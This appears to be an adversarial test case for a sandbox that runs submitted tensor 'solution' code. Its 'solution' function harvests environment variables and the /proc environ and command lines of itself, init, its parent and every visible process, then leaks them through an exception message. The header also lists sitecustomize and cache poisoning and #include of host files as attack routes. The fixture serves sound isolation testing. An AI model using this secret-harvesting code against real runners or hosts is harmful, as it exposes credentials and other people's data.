# Class: host_access
# §6: reading secrets, environment, other jobs' files or the parent's /proc; network; sitecustomize.py or cache
#     poisoning; compile-time #include or .incbin of host files
# Attack: collects every environment it can read (its own, /proc/self, pid 1, its parent, and every /proc/<pid> it
# can see, with command lines) and raises with all of it, so the runner's own secrets would come back in the
# error message. The sandbox starts from an empty environment plus an allowlist and shows only its own pid
# namespace: the runner's sentinel secret must appear nowhere in the result.
import json
import os

import torch


def _read(path: str) -> str:
    try:
        with open(path, "rb") as fh:
            return fh.read().decode("utf-8", "replace").replace("\0", "\n")
    except OSError as exc:
        return f"unreadable: {exc.strerror}"


def solution(input_a: torch.Tensor, input_b: torch.Tensor, output_c: torch.Tensor, n: int) -> None:
    found: dict[str, object] = {"environ": dict(os.environ), "pid": os.getpid(), "ppid": os.getppid()}
    for label, pid in (("self", "self"), ("init", "1"), ("parent", str(os.getppid()))):
        found[label] = {"environ": _read(f"/proc/{pid}/environ"), "cmdline": _read(f"/proc/{pid}/cmdline")}
    found["all"] = {entry: _read(f"/proc/{entry}/environ") for entry in sorted(os.listdir("/proc")) if entry.isdigit()}
    raise RuntimeError("FOUND " + json.dumps(found))
